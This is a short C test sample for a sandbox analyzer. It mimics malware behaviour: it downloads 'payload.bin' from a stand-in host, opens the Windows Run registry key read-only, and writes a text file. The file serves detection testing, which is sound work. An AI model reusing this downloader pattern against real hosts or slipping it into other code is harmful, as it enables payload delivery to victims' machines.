/* Harmless test sample for the sandbox analyzer (never run on a host: the tests only
 * emulate it). It names a made-up host (.invalid never resolves), opens the Run key
 * read-only and writes a small text file. */
#include <windows.h>
#include <urlmon.h>

int main(void)
{
    HKEY key;
    HANDLE h;
    DWORD written = 0;

    URLDownloadToFileA(NULL, "http://update.example.invalid/payload.bin",
                       "C:\\Users\\Public\\payload.bin", 0, NULL);
    if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                      0, KEY_READ, &key) == ERROR_SUCCESS)
        RegCloseKey(key);
    h = CreateFileA("C:\\Users\\Public\\pcapwire-test.txt", GENERIC_WRITE, 0, NULL,
                    CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    if (h != INVALID_HANDLE_VALUE) {
        WriteFile(h, "harmless test file\r\n", 20, &written, NULL);
        CloseHandle(h);
    }
    return 0;
}
